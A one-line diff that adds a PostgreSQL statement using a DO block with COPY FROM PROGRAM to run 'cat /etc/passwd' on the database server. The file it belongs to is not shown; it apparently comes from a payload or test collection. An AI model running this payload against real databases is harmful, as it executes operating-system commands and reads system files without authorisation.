@@ -1,0 +1,1 @@
+DO $$ BEGIN COPY note FROM PROGRAM 'cat /etc/passwd'; END $$;
